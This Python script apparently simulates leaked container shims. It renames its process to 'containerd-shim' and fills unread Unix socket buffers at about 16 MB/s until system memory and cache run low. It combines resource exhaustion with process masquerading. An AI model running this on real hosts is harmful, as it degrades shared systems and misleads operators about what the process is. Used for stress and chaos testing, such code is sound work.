"""Starts shims of containers that have ended: the output of each stays in a socket that nobody reads, 16 MB a second, until little cache is left."""
import os
import socket
import time

import room

with open("/proc/self/comm", "w") as name:
    name.write("containerd-shim")
began, sent, ends, line = time.time(), 0, [], b"o" * 3600
while True:
    if sent * 4096 > 16e6 * (time.time() - began) or room.files() < 55:
        time.sleep(0.05)
        continue
    own, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    own.setsockopt(socket.SOL_SOCKET, 32, 2 << 20)  # SO_SNDBUFFORCE
    own.setblocking(False)
    ends += [own, other]
    try:
        for _ in range(200):
            own.send(line)
            sent += 1
    except BlockingIOError:
        pass
